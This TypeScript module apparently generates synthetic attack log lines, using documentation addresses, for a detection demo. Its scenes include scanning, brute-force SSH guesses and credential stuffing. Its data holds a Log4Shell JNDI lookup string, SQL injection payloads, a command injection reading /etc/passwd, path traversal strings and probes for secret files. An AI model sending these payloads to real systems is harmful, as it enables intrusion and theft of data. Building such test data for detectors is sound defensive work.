import { accessLine, applicationLine, authLine, errorLine, signInLine, type DemoLine } from './lines.ts';
import { partSeed, randomOf, type Random } from './random.ts';

/**
 * The attack, scene by scene. Attackers' addresses are those set aside for documentation (RFC 5737), so that nobody's
 * machine is accused; each round takes others of them.
 */

export interface Scene {
  name: string;
  /** Seconds of the round in which it plays: [from, to). */
  from: number;
  to: number;
  /** Types of the findings it must lead to. */
  expects: string[];
  /** The lines of one second. `index` counts the seconds since the scene began. */
  lines(time: number, index: number, attackers: Attackers, random: Random): DemoLine[];
}

/** Who attacks in a round. */
export interface Attackers {
  scanner: string;
  injector: string;
  guesser: string;
  /** Tries stolen names and passwords in turn. */
  stuffers: [string, ...string[]];
}

/** Enough that each stays below what a single address may fail. */
const STUFFERS = 36;

/** The attackers of a round, counted from 0. */
export function attackersOf(seed: number, round: number): Attackers {
  const random = randomOf(partSeed(seed, 1_000_000 + round));
  const host = (): number => random.whole(20, 250);
  const stuffers = Array.from(
    { length: STUFFERS },
    (_, index) =>
      `${['192.0.2', '198.51.100', '203.0.113'][index % 3] ?? ''}.${20 + index * 6 + random.whole(0, 5)}`,
  );
  return {
    scanner: `203.0.113.${host()}`,
    injector: `198.51.100.${host()}`,
    guesser: `192.0.2.${host()}`,
    stuffers: [stuffers[0] ?? '192.0.2.20', ...stuffers.slice(1)],
  };
}

const SCANNED = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/index.php',
  '/cgi-bin/test.cgi',
  '/actuator/env',
  '/server-status',
  '/backup.zip',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/config/database.yml',
  '/old/admin/',
  '/solr/admin/info/system',
] as const;
const SCANNER_AGENT = 'Mozilla/5.0 (compatible; sweep/0.9)';
/** The hole in a logging library of 2021, tried everywhere since. */
const LOOKUP_AGENT = '${jndi:ldap://203.0.113.9:1389/a}';

const INJECTED = [
  "/api/v1/orders?id=1'%20OR%20'1'='1",
  '/api/v1/orders?id=7%20UNION%20SELECT%20user,password%20FROM%20accounts--',
  "/api/v1/quotes?symbol=7203';DROP%20TABLE%20orders;--",
  '/api/v1/orders?id=1%20AND%20SLEEP(5)--',
  "/api/v1/positions?account=0'%20UNION%20ALL%20SELECT%20NULL,version(),NULL--",
  '/api/v1/export?file=report.csv;cat%20/etc/passwd',
  '/api/v1/export?file=../../../../etc/passwd',
] as const;
const INJECTOR_AGENT = 'python-requests/2.31';

const GUESSED = ['root', 'admin', 'oracle', 'postgres', 'trader', 'backup', 'ubuntu', 'test'] as const;

/** Seconds of a round before the first blow: time to see what quiet looks like. */
const SCAN_AT = 22;

export const SCENES: readonly Scene[] = [
  {
    name: 'somebody looks for doors',
    from: SCAN_AT,
    to: 70,
    expects: ['scan', 'java'],
    lines: (time, index, { scanner }, random) => {
      const request = (agent: string): DemoLine =>
        accessLine(time, {
          address: scanner,
          request: `GET ${SCANNED[index % SCANNED.length] ?? '/'}`,
          status: 404,
          bytes: 153,
          agent,
        });
      return index % 12 === 9 ? [request(LOOKUP_AGENT)] : random.chance(0.8) ? [request(SCANNER_AGENT)] : [];
    },
  },
  {
    name: 'the database is asked through the order form',
    from: 32,
    to: 110,
    expects: ['sqli', 'cmdi', 'path_traversal'],
    lines: (time, index, { injector }) => {
      if (index % 3 !== 0) return [];
      const target = INJECTED[(index / 3) % INJECTED.length] ?? '/';
      const refused = accessLine(time, {
        address: injector,
        request: `GET ${target}`,
        status: index % 2 === 0 ? 500 : 400,
        bytes: 97,
        agent: INJECTOR_AGENT,
      });
      if (index % 6 !== 0) return [refused];
      return [
        refused,
        applicationLine(time, 'ERROR', 'order-store', 'query refused: syntax error near end of input'),
        applicationLine(time, 'ERROR', '注文管理', '問い合わせを実行できませんでした 理由=構文エラー'),
      ];
    },
  },
  {
    name: 'passwords of the gateway are guessed',
    from: 50,
    to: 150,
    expects: ['brute_force'],
    lines: (time, index, { guesser }) => {
      const user = GUESSED[index % GUESSED.length] ?? 'root';
      const known = user === 'root' || user === 'backup' ? user : `invalid user ${user}`;
      return [
        authLine(
          time,
          `sshd[${4000 + index}]`,
          `Failed password for ${known} from ${guesser} port ${40_000 + index} ssh2`,
        ),
      ];
    },
  },
  {
    name: 'stolen passwords are tried on customers',
    from: 80,
    to: 190,
    expects: ['credential_stuffing'],
    lines: (time, index, { stuffers }) => {
      if (index % 2 !== 0) return [];
      const address = stuffers[(index / 2) % stuffers.length] ?? stuffers[0];
      const customer = `c${String(1000 + index * 7)}@mail.example`;
      return [
        accessLine(time, {
          address,
          request: 'POST /api/v1/login',
          status: 401,
          bytes: 61,
          agent:
            'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0.0.0 Safari/537.36',
        }),
        signInLine(time, customer, address, false),
      ];
    },
  },
  {
    name: 'the order API feels it',
    from: 100,
    to: 180,
    expects: [],
    lines: (time, index, { injector }) => {
      if (index % 8 !== 0) return [];
      return [
        errorLine(
          time,
          'error',
          `upstream timed out (110: Connection timed out) while reading response header from upstream, client: ${injector}, server: orders.example, request: "GET /api/v1/orders HTTP/1.1", host: "orders.example"`,
        ),
        applicationLine(time, 'ERROR', 'order-store', 'connection pool exhausted, 40 of 40 in use'),
        applicationLine(time, 'WARN', '注文管理', '注文の応答が遅れています 中央値=2140ms'),
      ];
    },
  },
];

/** Then it is calm until the next round begins. */
export const ROUND_SECONDS = 900;
